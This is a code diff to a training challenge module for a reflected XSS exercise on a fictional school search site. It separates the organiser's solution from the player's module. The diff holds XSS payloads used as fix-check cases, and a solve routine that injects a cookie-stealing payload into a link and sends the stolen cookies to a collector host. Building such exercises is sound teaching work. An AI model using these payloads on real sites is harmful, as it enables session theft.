@@ -1,6 +1,6 @@
 import { createSite, html, page } from '../http.ts';
 import { activeContent } from '../fixcheck.ts';
-import { seen, type ChallengeModule, type FixCase } from '../types.ts';
+import { seen, type ChallengeModule, type ChallengeSolution, type FixCase } from '../types.ts';
 import { COLLECTOR, STEAL, collectorHost, cookieFrom, record } from './xss-common.ts';
 
 const HOST = 'tracuu.thpt-leloi.test';
@@ -43,6 +43,20 @@ export const xssReflected: ChallengeModule = {
       collectorHost(log),
     ]);
   },
+  fix: {
+    fn: 'renderSearch', language: 'javascript', vulnerable: VULNERABLE,
+    cases: [
+      safe(STEAL, 'Chặn <script> trong nội dung', 'Block <script> in the text'),
+      safe('" autofocus onfocus="alert(1)', 'Chặn thoát khỏi thuộc tính value', 'Block breaking out of the value attribute'),
+      safe('"><img src=x onerror=alert(1)>', 'Chặn "><img onerror>', 'Block "><img onerror>'),
+      shows('lịch thi <học kì 1> & "điểm"'),
+      shows('thời khoá biểu'),
+    ],
+  },
+};
+
+/** The organiser's reference solution and a beginner's naive attempt (never bundled into the player's page). */
+export const xssReflectedSolution: ChallengeSolution = {
   async solve(c) {
     const link = `http://${HOST}/tim?q=${encodeURIComponent(`"><p>${STEAL}</p>`)}`;
     const r = await c.post(`http://${HOST}/gui-thay`, { link });
@@ -54,14 +68,5 @@ export const xssReflected: ChallengeModule = {
     const own = await c.get(`http://${HOST}/tim?q=${encodeURIComponent(STEAL)}`);
     return seen(own, await c.post(`http://${HOST}/gui-thay`, { link: `http://${COLLECTOR}/` }), await c.get(`http://${COLLECTOR}/`));
   },
-  fix: {
-    fn: 'renderSearch', language: 'javascript', vulnerable: VULNERABLE, reference: REFERENCE,
-    cases: [
-      safe(STEAL, 'Chặn <script> trong nội dung', 'Block <script> in the text'),
-      safe('" autofocus onfocus="alert(1)', 'Chặn thoát khỏi thuộc tính value', 'Block breaking out of the value attribute'),
-      safe('"><img src=x onerror=alert(1)>', 'Chặn "><img onerror>', 'Block "><img onerror>'),
-      shows('lịch thi <học kì 1> & "điểm"'),
-      shows('thời khoá biểu'),
-    ],
-  },
+  reference: REFERENCE,
 };
